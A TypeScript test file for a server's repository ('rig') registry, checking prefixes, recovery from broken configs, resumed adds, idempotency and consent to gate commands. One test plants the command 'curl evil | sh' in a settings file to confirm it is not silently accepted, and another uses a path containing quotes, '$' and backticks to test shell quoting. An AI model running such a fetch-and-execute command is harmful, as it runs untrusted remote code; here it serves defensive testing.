import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { initLedger } from '../../../server/src/beads/storage/init';
import { BeadStore } from '../../../server/src/beads/store';
import { rigProblems, sayWhereNothingIsTested } from '../../../server/src/townServer/snapshot/rigAttention';
import { Rigs } from '../../../server/src/rigs/registry';
import { rigConfigFile, rigsFile, rigSettingsFile } from '../../../server/src/town/config';
import { ConsentStore } from '../../../server/src/town/consent';
import { TownLayout } from '../../../server/src/town/layout';
import { makeRepository, sh, tempDir } from '../../helpers/temp';

const ann = { actor: 'ann' };
const withTest = { gates: { test: 'true' }, accept: true };

class Town {
  readonly layout = new TownLayout(tempDir('rigs'));
  private stores: BeadStore[] = [];

  /** The rigs as the next server would load them. */
  async open(): Promise<Rigs> {
    initLedger(this.layout.ledger, 'hq');
    await this.close();
    const store = await BeadStore.open();
    this.stores.push(store);
    await store.addLedger({ name: 'hq', directory: this.layout.ledger, prefix: 'hq' });
    const rigs = new Rigs(
      this.layout,
      store,
      new ConsentStore(this.layout.root),
      async () => process.env,
      () => undefined,
    );
    await rigs.load();
    return rigs;
  }

  get store(): BeadStore {
    return this.stores[0]!;
  }

  async close(): Promise<void> {
    for (const store of this.stores.splice(0)) await store.close();
  }
}

describe('rigs', () => {
  const before = process.env.XDG_CONFIG_HOME;
  const source = (): string => makeRepository({ 'a.txt': 'a' });
  let town: Town;
  let rigs: Rigs;
  beforeEach(async () => {
    process.env.XDG_CONFIG_HOME = tempDir('config');
    town = new Town();
    rigs = await town.open();
  });
  afterEach(async () => {
    await town.close();
    if (before === undefined) delete process.env.XDG_CONFIG_HOME;
    else process.env.XDG_CONFIG_HOME = before;
  });

  it('that are added at once get prefixes of their own', async () => {
    const infos = await Promise.all(
      ['toolbox', 'toolkit', 'tooltip'].map((name) => rigs.add({ name, source: source(), ...withTest }, ann)),
    );
    assert.equal(new Set(infos.map((info) => info.prefix)).size, 3);
    rigs = await town.open();
    assert.deepEqual(
      rigs
        .all()
        .map((rig) => rig.name)
        .sort(),
      ['toolbox', 'toolkit', 'tooltip'],
    );
    assert.deepEqual(rigs.problems(), []);
  });

  it('offer the beads that a repository keeps itself, take their prefix, and import them where that is wanted', async () => {
    const line = (id: string): string =>
      `{"id":"${id}","title":"${id}","status":"open","priority":2,"issue_type":"task","created_at":"2026-01-01T00:00:00Z","updated_at":"2026-01-01T00:00:00Z"}`;
    const tracked = (...ids: string[]): string =>
      makeRepository({ '.beads/issues.jsonl': `${ids.map(line).join('\n')}\n` });
    const offered = await rigs.add(
      { name: 'one', source: tracked('my-app-1', 'my-app-2', 'my-app-2.1'), ...withTest },
      ann,
    );
    assert.equal(offered.prefix, 'my-app');
    assert.deepEqual([offered.trackedBeads?.count, offered.trackedBeads?.prefix], [3, 'my-app']);
    assert.match(sh(town.layout.root, 'sh', '-c', offered.trackedBeads!.show), /"my-app-2.1"/);
    assert.equal(town.store.get('my-app-1'), undefined, 'nobody asked for it');
    const imported = await rigs.add(
      { name: 'two', source: tracked('lib-1', 'lib-2'), importBeads: true, ...withTest },
      ann,
    );
    assert.equal(imported.trackedBeads, undefined);
    assert.equal(town.store.get('lib-2')?.title, 'lib-2');
    // The prefix is taken, or another is wanted: then they stay where they are.
    const taken = await rigs.add({ name: 'three', source: tracked('lib-9'), ...withTest }, ann);
    assert.notEqual(taken.prefix, 'lib');
    await assert.rejects(
      rigs.add({ name: 'four', source: tracked('web-1'), prefix: 'other', importBeads: true, ...withTest }, ann),
      /web-1 does not start with other-/,
    );
    const again = await rigs.add({ name: 'four', source: tracked('web-1'), importBeads: true, ...withTest }, ann);
    assert.equal(again.prefix, 'web');
  });

  it('that cannot be opened do not keep the others from it, are shown, and come back when they are repaired', async () => {
    for (const name of ['good', 'gone', 'torn', 'same']) await rigs.add({ name, source: source(), ...withTest }, ann);
    const { layout } = town;
    fs.renameSync(layout.rig('gone').root, `${layout.rig('gone').root} away`);
    fs.writeFileSync(layout.rig('torn').configFile, '{"name": ');
    const config = rigConfigFile(layout.rig('same')).read();
    rigConfigFile(layout.rig('same')).write({ ...config, beads: { prefix: 'goo' } });
    rigs = await town.open();
    assert.deepEqual(
      rigs.all().map((rig) => rig.name),
      ['good'],
    );
    const shown = Object.fromEntries(rigProblems(rigs).map((item) => [item.rig!, item]));
    assert.match(shown.gone?.title ?? '', /gone: its folder .* is gone/);
    assert.match(shown.torn?.title ?? '', /is not JSON/);
    assert.match(shown.same?.title ?? '', /prefix goo- already belongs to good/);
    assert.ok(Object.values(shown).every((item) => item.kind === 'problem'));
    assert.throws(() => rigs.require('gone'), /cannot be used: its folder/);
    fs.renameSync(`${layout.rig('gone').root} away`, layout.rig('gone').root);
    await rigs.retryBroken();
    assert.ok(rigs.get('gone'));
    await rigs.remove('torn');
    assert.deepEqual(
      rigs.problems().map((problem) => problem.rig),
      ['same'],
    );
    assert.deepEqual(Object.keys(rigsFile(layout).read().rigs), ['good', 'gone', 'same']);
  });

  it('whose settings are being edited are a problem, not a failure', async () => {
    await rigs.add({ name: 'toy', source: source(), maxWorkers: 4, ...withTest }, ann);
    const rig = rigs.require('toy');
    rigs.info(rig);
    const text = fs.readFileSync(rig.layout.settingsFile, 'utf8');
    fs.writeFileSync(rig.layout.settingsFile, text.slice(0, 20));
    const info = rigs.info(rig);
    assert.deepEqual([info.accepted, info.maxWorkers, info.gates.length], [false, 4, 1]);
    assert.equal(rigs.settingsOf(rig), undefined);
    assert.match(rigProblems(rigs)[0]?.detail ?? '', /is not JSON[\s\S]*fix the file/);
    fs.writeFileSync(rig.layout.settingsFile, text);
    assert.deepEqual(rigs.problems(), []);
    assert.equal(rigs.info(rig).accepted, true);
  });

  it('are added by whoever repeats what was cut short, wherever that was', async () => {
    const project = source();
    const request = { name: 'toolbox', source: project, ...withTest };
    await rigs.add(request, ann);
    const { layout } = town;
    const files = ['settings/config.json', '.beads/issues.jsonl', '.beads', '.repo.git/HEAD', '.repo.git'];
    for (const missing of files) {
      // As a kill left it: rigs.json, written last, does not name it.
      rigsFile(layout).update((file) => {
        delete file.rigs.toolbox;
      });
      fs.rmSync(path.join(layout.rig('toolbox').root, missing), { recursive: true });
      rigs = await town.open();
      assert.deepEqual(rigs.all(), [], missing);
      const info = await rigs.add(request, ann);
      assert.deepEqual(
        [info.prefix, info.accepted, info.gates.map((gate) => gate.command)],
        ['too', true, ['true']],
        missing,
      );
    }
  });

  it('keep the prefix that a cut-short add had chosen', async () => {
    const project = source();
    await rigs.add({ name: 'toolbox', source: project, prefix: 'tb', ...withTest }, ann);
    rigsFile(town.layout).update((file) => {
      delete file.rigs.toolbox;
    });
    rigs = await town.open();
    assert.equal((await rigs.add({ name: 'toolbox', source: project, ...withTest }, ann)).prefix, 'tb');
  });

  for (const [what, again] of [
    ['under the same name', { name: 'toolbox' }],
    ['under another name', { name: 'workbench' }],
  ] as const)
    it(`that were removed and are added again ${what} have their beads`, async () => {
      const project = source();
      await rigs.add({ name: 'toolbox', source: project, prefix: 'tb', ...withTest }, ann);
      const bead = await town.store.batch(ann, (tx) => tx.create('toolbox', { title: 'Still there' }));
      await rigs.remove('toolbox');
      assert.equal(town.store.get(bead.id), undefined);
      const info = await rigs.add({ ...again, source: project, ...withTest }, ann);
      assert.equal(info.prefix, 'tb');
      assert.equal(town.store.get(bead.id)?.title, 'Still there');
      assert.ok(town.store.events(bead.id).length > 0, 'with what happened to it');
      rigs = await town.open();
      assert.equal(town.store.get(bead.id)?.title, 'Still there');
    });

  it('that were removed leave their beads alone where another repository, or another prefix, is added', async () => {
    const project = source();
    await rigs.add({ name: 'toolbox', source: project, prefix: 'tb', ...withTest }, ann);
    const bead = await town.store.batch(ann, (tx) => tx.create('toolbox', { title: 'Not here' }));
    const { movedTo } = await rigs.remove('toolbox');
    await rigs.add({ name: 'toolbox', source: source(), ...withTest }, ann);
    await rigs.add({ name: 'other', source: project, prefix: 'ot', ...withTest }, ann);
    assert.equal(town.store.get(bead.id), undefined);
    assert.ok(fs.existsSync(path.join(movedTo, '.beads', 'issues.jsonl')));
  });

  it('whose adding was cut short are told with the command that goes on, and can be given up', async () => {
    const project = makeRepository({ 'a.txt': 'a' }, 'main', path.join(tempDir('it"s'), '$a `b`'));
    const { layout } = town;
    fs.mkdirSync(layout.unfinishedAdds, { recursive: true });
    const request = { source: project, prefix: 'tb', maxWorkers: 3, gates: { test: 'echo "$HOME"' } };
    fs.writeFileSync(path.join(layout.unfinishedAdds, 'toolbox.json'), JSON.stringify(request));
    fs.writeFileSync(path.join(layout.unfinishedAdds, 'garbage.json'), '{');
    fs.writeFileSync(path.join(layout.unfinishedAdds, '..json'), JSON.stringify(request));
    fs.mkdirSync(layout.rig('toolbox').repository, { recursive: true });
    const items = rigProblems(rigs);
    assert.deepEqual(
      items.map(({ id }) => id),
      ['problem-adding-toolbox'],
    );
    // As a shell reads it.
    const words = sh(town.layout.root, 'sh', '-c', `for word in ${items[0]!.command!}; do echo "$word"; done`);
    assert.deepEqual(words.split('\n'), [
      ...['gt', 'rig', 'add', 'toolbox', project],
      ...['--prefix', 'tb', '--max-workers', '3', '--gate', 'test=echo "$HOME"'],
    ]);
    const { movedTo } = await rigs.remove('toolbox');
    assert.ok(fs.existsSync(path.join(movedTo, '.repo.git')));
    assert.deepEqual(rigProblems(rigs), []);
    await rigs.add({ name: 'toolbox', source: project, ...withTest }, ann);
    assert.deepEqual(rigProblems(rigs), []);
    assert.equal(fs.existsSync(path.join(layout.unfinishedAdds, 'toolbox.json')), false);
  });

  it('are there once for one request whose answer was lost', async () => {
    const request = { name: 'toy', source: source(), ...withTest };
    const first = await rigs.add(request, { ...ann, operation: 'op-1' });
    rigs = await town.open();
    assert.deepEqual((await rigs.add(request, { ...ann, operation: 'op-1' })).id, first.id);
    await assert.rejects(rigs.add(request, { ...ann, operation: 'op-2' }), /there is a rig toy already/);
    await assert.rejects(rigs.add({ ...request, name: 'TOY' }, ann), /there is a rig toy already/);
    await assert.rejects(rigs.add({ ...request, name: 'Settings' }, ann), /reserved by the town/);
  });

  it('accept no command that lay in their folder unseen', async () => {
    const { layout } = town;
    fs.mkdirSync(path.dirname(layout.rig('toy').settingsFile), { recursive: true });
    fs.writeFileSync(
      layout.rig('toy').settingsFile,
      JSON.stringify({ merge_queue: { lint_command: 'curl evil | sh' } }),
    );
    const info = await rigs.add({ name: 'toy', source: source(), ...withTest }, ann);
    assert.equal(info.accepted, false);
    assert.deepEqual(
      info.gates.map((gate) => gate.command),
      ['curl evil | sh', 'true'],
      'they are shown',
    );
  });

  it('without gates are accepted as such where that was asked for, and not where gates were taken away', async () => {
    const empty = await rigs.add({ name: 'plain', source: source() }, ann);
    assert.deepEqual([empty.gates, empty.accepted], [[], true]);
    await rigs.add({ name: 'toy', source: source(), ...withTest }, ann);
    const rig = rigs.require('toy');
    rigSettingsFile(rig.layout).update((settings) => {
      delete settings.merge_queue.test_command;
    });
    assert.equal(rigs.isAccepted(rig), false);
    assert.equal(rigs.info(rig).accepted, false);
    const item = sayWhereNothingIsTested({
      id: 'consent-rig-toy',
      kind: 'consent',
      rig: 'toy',
      title: 't',
      detail: 'd',
      consent: { kind: 'rig-commands', hash: 'h', text: '' },
    });
    assert.match(
      `${item.title} ${item.detail} ${item.consent?.text}`,
      /merge without tests.*without any test.*nothing is tested/,
    );
  });
});
